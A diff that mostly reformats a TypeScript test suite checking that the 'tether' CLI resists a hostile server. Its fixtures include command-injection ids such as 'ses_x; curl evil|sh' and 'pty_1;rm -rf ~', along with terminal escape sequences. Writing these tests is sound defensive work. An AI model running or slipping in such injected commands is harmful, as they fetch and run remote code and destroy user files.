@@ -93,7 +93,9 @@ describe('a hostile server cannot drive the terminal', () => {
 
   it('error lines: hostile codes and messages in 4xx/5xx are one visible line', async () => {
     for (const status of [400, 401, 403, 404, 409, 429, 500, 503]) {
-      const s = await hostile({ routes: { 'GET /auth/whoami': () => ({ status, headers: { 'retry-after': EVIL.replace(/[^\x20-\x7e]/g, '') }, body: errorBody() }) } });
+      const s = await hostile({
+        routes: { 'GET /auth/whoami': () => ({ status, headers: { 'retry-after': EVIL.replace(/[^\x20-\x7e]/g, '') }, body: errorBody() }) },
+      });
       const r = await cli(['auth', 'status', s.url]);
       expect(r.code, `${status}`).toBe(1);
       expect(r.stderr.trim().split('\n'), `${status}`).toHaveLength(1);
@@ -176,7 +178,9 @@ describe('a hostile server cannot drive the terminal', () => {
     clean(r, { stdout: false });
     expect(r.stderr).toContain('created terminal pty_0123456789abcdef');
     expect(r.stderr).toContain(`tether: ${EVIL_VISIBLE}`);
-    expect(r.stderr).toMatch(/connection closed \(4999: \^\[\]0;pwned\^G\^\[\[2J\\x9b2J\\u202eevil\); reattach with: tether attach --pty pty_0123456789abcdef --url/);
+    expect(r.stderr).toMatch(
+      /connection closed \(4999: \^\[\]0;pwned\^G\^\[\[2J\\x9b2J\\u202eevil\); reattach with: tether attach --pty pty_0123456789abcdef --url/,
+    );
   });
 
   it('attach: exits only with a real exit status, from an exit frame or a close reason', async () => {
@@ -200,7 +204,10 @@ describe('a hostile server cannot drive the terminal', () => {
     expect(r.stderr).toContain(EVIL_VISIBLE);
     expect(r.stderr.trim().split('\n')).toHaveLength(1);
     clean(r);
-    const s2 = await hostile({ routes: { 'GET /pty/pty_abc': () => ({ body: pty({ id: 'pty_abc' }) }) }, upgrade: { status: 500, body: errorBody(EVIL, EVIL) } });
+    const s2 = await hostile({
+      routes: { 'GET /pty/pty_abc': () => ({ body: pty({ id: 'pty_abc' }) }) },
+      upgrade: { status: 500, body: errorBody(EVIL, EVIL) },
+    });
     const u = await cli(['attach', '--url', s2.url, '--pty', 'pty_abc']);
     expect(u.code).toBe(1);
     expect(u.stderr).toContain(EVIL_VISIBLE);
@@ -209,8 +216,16 @@ describe('a hostile server cannot drive the terminal', () => {
   });
 
   it('ids printed inside commands to copy must be ids: anything else is refused, not printed', async () => {
-    const s = await hostile({ routes: { 'POST /session': () => ({ body: session({ id: `ses_x; curl evil|sh ${EVIL}` }) }), 'POST /pty': () => ({ body: pty({ id: 'pty_1;rm -rf ~' }) }) } });
-    for (const args of [['run', '--url', s.url, '--shell', 'true'], ['attach', '--url', s.url]]) {
+    const s = await hostile({
+      routes: {
+        'POST /session': () => ({ body: session({ id: `ses_x; curl evil|sh ${EVIL}` }) }),
+        'POST /pty': () => ({ body: pty({ id: 'pty_1;rm -rf ~' }) }),
+      },
+    });
+    for (const args of [
+      ['run', '--url', s.url, '--shell', 'true'],
+      ['attach', '--url', s.url],
+    ]) {
       const r = await cli(args);
       expect(r.code, args.join(' ')).toBe(1);
       expect(r.stderr).toMatch(/unexpected response from .*: id: expected a (session|terminal) id/);
@@ -245,8 +260,16 @@ describe('an unexpected response shape is one line, exit 1, never a stack trace'
   const streamCases: [string, [string, unknown][], RegExp][] = [
     ['an event that is not JSON', [['message.part', `not json ${EVIL}`]], /event "message\.part" is not JSON/],
     ['an event without properties', [['message.part', { type: 'message.part' }]], /properties: expected record/],
-    ['a part of the wrong shape', [['message.part', { type: 'message.part', properties: { part: { id: 1 } } }]], /event "message\.part": part\.id: expected string/],
-    ['a final message without parts', [['done', { type: 'done', properties: { message: { ...message(), parts: undefined } } }]], /message\.parts: expected array/],
+    [
+      'a part of the wrong shape',
+      [['message.part', { type: 'message.part', properties: { part: { id: 1 } } }]],
+      /event "message\.part": part\.id: expected string/,
+    ],
+    [
+      'a final message without parts',
+      [['done', { type: 'done', properties: { message: { ...message(), parts: undefined } } }]],
+      /message\.parts: expected array/,
+    ],
     ['a delta with a negative offset', [['message.part.delta', { type: 'message.part.delta', properties: { partId: 'p', offset: -1, text: 'x' } }]], /offset/],
   ];
   for (const [what, sse, msg] of streamCases) {
